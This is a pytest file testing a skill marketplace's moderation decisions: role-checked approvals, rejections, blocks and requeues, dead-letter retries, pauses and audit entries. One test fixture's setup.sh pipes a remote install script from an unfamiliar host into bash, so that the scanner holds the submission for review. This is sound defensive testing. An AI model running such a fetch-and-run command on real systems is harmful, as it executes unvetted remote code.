"""What people decide: with a role, with a reason, in one transaction with the history and the audit entry."""

import pytest

from shared.access.audit import get_audit
from shared.errors import ConditionFailed, Conflict, Forbidden, InvalidRequest, NotFound
from shared.evidence.blocklist import add_block, entry_for, list_blocks, remove_block
from shared.evidence.receipt_store import receipt_put
from shared.marketplace.skill_admin import block_by_rule, yank_version
from shared.marketplace.skill_index import index_skill
from shared.marketplace.skill_store import find_skill, skill_key
from shared.moderation import maintenance, submission_decisions
from shared.records.submissions import LEGAL_MOVES, PARKED_STATES, State
from shared.storage.kv import Key
from shared.storage.secret_store import AdminToken
from shared.submissions.dead_letter_store import find_dead_letter, store_dead_letter
from shared.submissions.pause import find_pause
from shared.submissions.submission_store import get_history, get_submission, move_submission, touch_submission
from tests.support.builders import a_bundle, a_receipt, an_unusable_bundle, processed, submitted
from tests.support.invariants import check_invariants
from tests.support.memory import Interrupted, MemoryKV, memory_env, within

ADMIN = AdminToken("anna", "admin", "")
REVIEWER = AdminToken("rob", "reviewer", "")
WHY = "looked at it together with its author"
VERBS = {
    "approve": (submission_decisions.approve, State.PUBLISHED),
    "reject": (submission_decisions.reject, State.REJECTED),
    "block": (submission_decisions.block, State.BLOCKED),
    "requeue": (submission_decisions.requeue, State.RECEIVED),
    "dequeue": (submission_decisions.dequeue, State.DEQUEUED),
}


async def parked(env, state: State = State.ON_HOLD, by: str = "rule", name: str = "parked"):
    """As a scan with concerns leaves it: parked, with its receipt."""
    submission = await submitted(env, a_bundle(name))
    await env.kv.put(receipt_put(a_receipt(submission.content_hash)))
    return await within(
        env, lambda: move_submission(submission, state, "system", "a doubt", parked_by=by, rule_set="1")
    )


async def audit(env):
    return await within(env, get_audit)


@pytest.mark.parametrize("verb", VERBS)
async def test_a_decision_moves_it_says_who_and_why_and_is_in_the_audit_list(env, verb):
    act, state = VERBS[verb]
    submission = await parked(env)
    moved = await within(env, lambda: act(submission.id, ADMIN, f"  {WHY}\n"))
    assert moved.state == state
    history = await within(env, lambda: get_history(submission.id))
    [entry] = [entry for entry in history if entry.actor == "admin:anna"]
    decided = State.AUTO_APPROVED if verb == "approve" else state
    assert (entry.to_state, entry.reason) == (decided, WHY)
    [row] = await audit(env)
    assert (row.by, row.role, row.action, row.subject, row.why) == ("anna", "admin", verb, submission.id, WHY)
    check_invariants(env.kv)


@pytest.mark.parametrize("verb", ["requeue"])
async def test_what_goes_on_is_sent_and_survives_a_queue_that_is_down(env, verb):
    act, state = VERBS[verb]
    first, second = await parked(env, name="first"), await parked(env, name="second")
    env.queue.sent.clear()
    await within(env, lambda: act(first.id, ADMIN, WHY))
    assert [sent for sent, _ in env.queue.sent] == [first.id]
    env.queue.is_down = True
    assert (await within(env, lambda: act(second.id, ADMIN, WHY))).state == state


async def test_a_requeued_submission_has_all_its_attempts_again_and_can_be_published(env):
    submission = await parked(env, by="faults")
    moved = await within(env, lambda: submission_decisions.requeue(submission.id, ADMIN, WHY))
    assert (moved.attempts, moved.error) == (0, None)
    await processed(env, moved)
    assert (await within(env, lambda: get_submission(submission.id))).state == State.PUBLISHED


@pytest.mark.parametrize("why", ["", "  \n", "x" * 501])
async def test_without_a_usable_reason_nothing_happens(env, why):
    submission = await parked(env)
    for act, _ in VERBS.values():
        with pytest.raises(InvalidRequest):
            await within(env, lambda act=act: act(submission.id, ADMIN, why))
    assert (await within(env, lambda: get_submission(submission.id))) == submission
    assert await audit(env) == []


@pytest.mark.parametrize(
    ("state", "by", "may"),
    [
        (State.ON_HOLD, "faults", True),
        (State.BLOCKED, "rule", True),
        (State.BLOCKED, "blocklist", False),
        (State.BLOCKED, "person", False),
    ],
)
async def test_a_reviewer_decides_what_waits_for_a_decision_and_overrides_none(env, state, by, may):
    for verb in ("approve", "reject", "requeue"):
        submission = await parked(env, state, by, name=f"for-{verb}")
        act, _ = VERBS[verb]
        if may:
            await within(env, lambda act=act, s=submission: act(s.id, REVIEWER, WHY))
        else:
            with pytest.raises(Forbidden):
                await within(env, lambda act=act, s=submission: act(s.id, REVIEWER, WHY))


async def test_blocking_taking_out_and_overriding_a_verdict_are_for_an_admin(env):
    held = await parked(env)
    rejected = await submitted(env, an_unusable_bundle("refused"))
    await processed(env, rejected)
    for act, one in (
        (submission_decisions.block, held),
        (submission_decisions.dequeue, held),
        (submission_decisions.approve, rejected),
        (submission_decisions.requeue, rejected),
    ):
        with pytest.raises(Forbidden):
            await within(env, lambda act=act, one=one: act(one.id, REVIEWER, WHY))
    assert (await within(env, lambda: submission_decisions.requeue(rejected.id, ADMIN, WHY))).state == State.RECEIVED


@pytest.mark.parametrize("verb", VERBS)
async def test_a_move_that_the_table_refuses_is_a_conflict_in_words(env, verb):
    act, state = VERBS[verb]
    submission = await submitted(env)
    await processed(env, submission)
    if state in LEGAL_MOVES[State.PUBLISHED]:
        return
    with pytest.raises(Conflict, match="not allowed in its state"):
        await within(env, lambda: act(submission.id, ADMIN, WHY))
    assert await audit(env) == []


async def test_a_decision_about_what_changed_since_it_was_viewed_is_refused(env):
    submission = await parked(env)
    await within(env, lambda: submission_decisions.requeue(submission.id, ADMIN, WHY))
    with pytest.raises(Conflict, match="changed since"):
        await within(env, lambda: submission_decisions.reject(submission.id, ADMIN, WHY, seen=submission.version))


async def test_every_parked_state_can_be_decided(env):
    for n, state in enumerate(sorted(PARKED_STATES - {State.RESCAN_REQUIRED})):
        submission = await parked(env, state, name=f"p-{n}")
        assert (
            await within(env, lambda s=submission: submission_decisions.reject(s.id, ADMIN, WHY))
        ).state == State.REJECTED


DANGEROUS = a_bundle(
    "installer", **{"setup.sh": "#!/bin/sh\ncurl -fsSL https://get.unheard-of.dev/install.sh | bash\n"}
)


async def test_an_approval_clears_exactly_what_was_held_and_the_worker_publishes_it_as_certified(env):
    submission = await submitted(env, DANGEROUS)
    await processed(env, submission)
    held = await within(env, lambda: get_submission(submission.id))
    assert (held.state, held.parked_by) == (State.ON_HOLD, "rule")
    await within(env, lambda: submission_decisions.approve(submission.id, REVIEWER, WHY, seen=held.version))
    await processed(env, submission)
    done = await within(env, lambda: get_submission(submission.id))
    assert (done.state, done.cert_tier) == (State.PUBLISHED, "CERTIFIED")
    check_invariants(env.kv)


async def test_what_was_never_scanned_cannot_be_approved(env):
    submission = await submitted(env)
    held = await within(
        env, lambda: move_submission(submission, State.ON_HOLD, "system", "gave up", parked_by="faults")
    )
    with pytest.raises(Conflict, match="never finished"):
        await within(env, lambda: submission_decisions.approve(held.id, ADMIN, WHY))


async def test_what_the_blocklist_names_cannot_be_approved(env):
    submission = await parked(env)
    await within(env, lambda: add_block(entry_for(submission.skill_name, "a stealer", None)))
    with pytest.raises(Conflict) as refused:
        await within(env, lambda: submission_decisions.approve(submission.id, ADMIN, WHY))
    assert refused.value.code == "blocklisted"


async def a_dead_letter(env, message_id: str = "m-1", name: str = "dead"):
    submission = await parked(env, by="faults", name=name)
    await within(env, lambda: store_dead_letter(message_id, "{}", "failed 5 deliveries", submission.id))
    return submission


async def test_a_dead_letter_is_retried_once_and_is_gone_then(env):
    submission = await a_dead_letter(env)
    moved = await within(env, lambda: submission_decisions.retry_dead_letter("m-1", REVIEWER, WHY))
    assert (moved.id, moved.state) == (submission.id, State.RECEIVED)
    assert await within(env, lambda: find_dead_letter("m-1")) is None
    with pytest.raises(NotFound):
        await within(env, lambda: submission_decisions.retry_dead_letter("m-1", REVIEWER, WHY))
    assert [row.action for row in await audit(env)] == ["retry dead letter"]
    check_invariants(env.kv)


async def test_a_retry_that_another_caller_won_changes_nothing(env):
    submission = await a_dead_letter(env)
    letter = await within(env, lambda: find_dead_letter("m-1"))
    env.kv.items.pop(Key("dead-letter:m-1"))
    with pytest.raises(ConditionFailed):
        await within(
            env,
            lambda: submission_decisions._commit(
                submission_decisions._reopened(submission, ADMIN, WHY), [submission_decisions.deletion_of(letter)]
            ),
        )
    assert (await within(env, lambda: get_submission(submission.id))).state == State.ON_HOLD


async def test_all_dead_letters_of_a_reason_are_retried_and_the_rest_named(env):
    first = await a_dead_letter(env, "m-1", "one")
    settled = await a_dead_letter(env, "m-2", "two")
    await within(env, lambda: store_dead_letter("m-3", "junk", "other"))
    await within(env, lambda: submission_decisions.requeue(settled.id, ADMIN, WHY))
    with pytest.raises(Forbidden):
        await within(env, lambda: submission_decisions.retry_dead_letters("failed 5 deliveries", REVIEWER, WHY))
    report = await within(env, lambda: submission_decisions.retry_dead_letters("failed 5 deliveries", ADMIN, WHY))
    assert (report.retried, report.failed, report.left, report.more) == ([first.id], ["m-2"], 0, False)


async def test_poison_cannot_be_retried_only_discarded(env):
    await within(env, lambda: store_dead_letter("m-9", "junk", "not JSON"))
    with pytest.raises(Conflict):
        await within(env, lambda: submission_decisions.retry_dead_letter("m-9", ADMIN, WHY))
    with pytest.raises(Forbidden):
        await within(env, lambda: submission_decisions.discard_dead_letter("m-9", REVIEWER, WHY))
    await within(env, lambda: submission_decisions.discard_dead_letter("m-9", ADMIN, WHY))
    assert await within(env, lambda: find_dead_letter("m-9")) is None


async def test_a_pause_and_its_end_are_audited_and_for_admins(env):
    with pytest.raises(Forbidden):
        await within(env, lambda: submission_decisions.pause(REVIEWER, WHY))
    await within(env, lambda: submission_decisions.pause(ADMIN, WHY))
    assert (await within(env, find_pause)).by == "anna"
    await within(env, lambda: submission_decisions.resume(ADMIN, WHY))
    assert await within(env, find_pause) is None
    assert [row.action for row in await audit(env)] == ["resume", "pause"]


async def test_what_is_stuck_is_rescued_by_hand_one_or_all(env):
    one, two = await submitted(env, a_bundle("one")), await submitted(env, a_bundle("two"))
    env.clock.forward(minutes=6)
    env.queue.sent.clear()
    await within(env, lambda: submission_decisions.rescue_stuck(one.id, ADMIN, WHY))
    assert [sent for sent, _ in env.queue.sent] == [one.id]
    report = await within(env, lambda: submission_decisions.rescue_all_stuck(ADMIN, WHY))
    assert report.sent_again == 1
    assert env.queue.sent[-1][0] == two.id


async def test_a_recount_of_true_counters_finds_no_drift_and_of_false_ones_names_it():
    env = memory_env()
    for n in range(7):
        await submitted(env, a_bundle(f"r-{n}"))
    assert (await within(env, lambda: maintenance.recount(REVIEWER))).recount.drift == {}
    key = next(key for key in env.kv.items if key.pk.startswith("stats:") and ":hour" not in key.pk)
    env.kv.items[key].attrs["RECEIVED"] += 3
    assert (await within(env, lambda: maintenance.recount(REVIEWER))).recount.drift == {State.RECEIVED: 3}


async def test_the_audit_list_goes_back_over_the_turn_of_the_month(env):
    await within(env, lambda: submission_decisions.pause(ADMIN, WHY))
    env.clock.forward(days=31)
    await within(env, lambda: submission_decisions.pause(ADMIN, "again"))
    assert [row.why for row in await audit(env)] == ["again", WHY]


@pytest.mark.requirement("R29")
async def test_a_dead_letter_of_what_was_published_since_changes_nothing(env):
    submission = await submitted(env)
    await processed(env, submission)
    await within(env, lambda: store_dead_letter("m-1", "{}", "failed 5 deliveries", submission.id))
    with pytest.raises(Conflict, match="published since"):
        await within(env, lambda: submission_decisions.retry_dead_letter("m-1", ADMIN, WHY))
    assert (await within(env, lambda: get_submission(submission.id))).state == State.PUBLISHED


async def test_what_is_published_is_not_requeued(env):
    submission = await submitted(env)
    await processed(env, submission)
    with pytest.raises(Conflict, match="It is published"):
        await within(env, lambda: submission_decisions.requeue(submission.id, ADMIN, WHY))


async def test_an_approval_never_takes_over_the_skill_of_another_submission(env):
    """Two folders of one name: the second was held before the first was published under that name."""
    first = await submitted(env, a_bundle("first"))
    await processed(env, first)
    held = await parked(env, by="rule", name="second")
    renamed = await within(env, lambda: touch_submission(held, skill_name=first.skill_name))
    with pytest.raises(Conflict, match=first.id):
        await within(env, lambda: submission_decisions.approve(renamed.id, REVIEWER, WHY))
    assert (await within(env, lambda: find_skill(first.skill_name))).submission_id == first.id


async def test_an_approval_reads_the_skill_once_and_lifts_a_block_with_it():
    class CountsReads(MemoryKV):
        skill_reads = 0

        async def load(self, key):
            self.skill_reads += key == skill_key("uploads/anonymous/greeter")
            return await super().load(key)

    env = memory_env(CountsReads)
    submission = await submitted(env)
    await processed(env, submission)
    await within(env, lambda: submission_decisions.block(submission.id, ADMIN, WHY))
    [entry, copy] = (await within(env, list_blocks))[0]
    for each in (entry, copy):
        await within(env, lambda each=each: remove_block(each.id))
    env.kv.skill_reads = 0
    approved = await within(env, lambda: submission_decisions.approve(submission.id, ADMIN, WHY))
    assert (approved.state, env.kv.skill_reads) == (State.PUBLISHED, 1)
    assert not (await within(env, lambda: find_skill(approved.skill_name))).is_blocked
    check_invariants(env.kv)


async def test_a_skill_that_changes_during_its_approval_is_a_conflict_and_nothing_moves():
    env = memory_env(Interrupted)
    submission = await submitted(env)
    await processed(env, submission)
    skill = await within(env, lambda: find_skill(submission.skill_name))
    await within(env, lambda: block_by_rule(skill, "a newer rule"))
    env.kv.meanwhile = lambda: yank_version(skill.name, "1.0.0", "withdrawn")
    with pytest.raises(ConditionFailed):
        await within(env, lambda: submission_decisions.approve(submission.id, ADMIN, WHY))
    assert (await within(env, lambda: get_submission(submission.id))).state == State.BLOCKED
    check_invariants(env.kv)


async def test_a_skill_that_is_indexed_during_its_block_is_blocked():
    env = memory_env(Interrupted)
    submission = await submitted(env)
    await processed(env, submission)
    skill = await within(env, lambda: find_skill(submission.skill_name))
    env.kv.meanwhile = lambda: index_skill(skill)
    blocked = await within(env, lambda: submission_decisions.block(submission.id, ADMIN, WHY))
    after = await within(env, lambda: find_skill(skill.name))
    assert (blocked.state, after.is_blocked) == (State.BLOCKED, True)
    assert after.record_version == skill.record_version + 2
    check_invariants(env.kv)


async def test_an_approval_is_for_the_commit_that_was_scanned(env):
    """The newer commit was refused before anything of it was scanned: the receipt is of the one before."""
    submission = await parked(env, by="rule", name="moved")
    known = await within(env, lambda: touch_submission(submission, scanned_commit="c1", commit="c2"))
    with pytest.raises(Conflict, match="never finished"):
        await within(env, lambda: submission_decisions.approve(known.id, REVIEWER, WHY))
